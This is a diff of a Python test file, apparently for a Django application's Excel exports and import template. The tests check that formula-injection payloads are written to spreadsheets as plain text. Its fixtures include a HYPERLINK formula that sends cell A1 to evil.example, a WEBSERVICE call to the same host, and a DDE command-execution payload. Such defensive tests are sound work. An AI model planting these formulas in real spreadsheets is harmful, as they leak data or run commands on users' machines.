@@ -25,7 +25,7 @@ ROOT = Path(__file__).resolve().parents[2]
 
 ATTACKS = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
-    "address": "=WEBSERVICE(\"http://evil.example/\")",
+    "address": '=WEBSERVICE("http://evil.example/")',
     "legal_representative": "+cmd|' /C calc'!A0",
     "safety_principal": "-2+3",
     "contact_name": "@SUM(1+1)",
@@ -37,9 +37,11 @@ ATTACKS = {
 def formulas_in(content: bytes) -> list[str]:
     """Every <f> element of every sheet: a formula Excel would evaluate."""
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
-        return [name for name in archive.namelist()
-                if name.startswith("xl/worksheets/")
-                and re.search(rb"<f[ >]", archive.read(name))]
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
+        ]
 
 
 def cells(content: bytes):
@@ -67,7 +69,8 @@ def hostile_enterprise(cast):
 
 
 def test_the_districts_export_writes_hostile_enterprise_text_as_text(
-        cast, client_for, hostile_enterprise):
+    cast, client_for, hostile_enterprise
+):
     response = client_for(cast.district).get(reverse("enterprises:export"))
 
     assert response.status_code == 200
@@ -83,18 +86,19 @@ def test_control_characters_do_not_break_the_export(cast, hostile_enterprise):
 
 
 def test_the_import_template_lists_a_hostile_group_name_as_text(cast):
-    Organisation.objects.create(name="=HYPERLINK(\"http://evil.example\",\"集团\")",
-                                kind=OrganisationKind.GROUP)
+    Organisation.objects.create(
+        name='=HYPERLINK("http://evil.example","集团")', kind=OrganisationKind.GROUP
+    )
 
     content = build_template()
 
-    assert_written_as_text(content, ["=HYPERLINK(\"http://evil.example\",\"集团\")"])
+    assert_written_as_text(content, ['=HYPERLINK("http://evil.example","集团")'])
 
 
 def test_the_standards_export_writes_hostile_criterion_text_as_text(cast):
     data = version_data(make_version())
     criterion = data["elements"][0]["elements"][0]["criteria"][0]
-    criterion["requirement"] = "=WEBSERVICE(\"http://evil.example/\")"
+    criterion["requirement"] = '=WEBSERVICE("http://evil.example/")'
     criterion["method"] = "+1+1"
     criterion["guidance"] = "@SUM(1)"
 
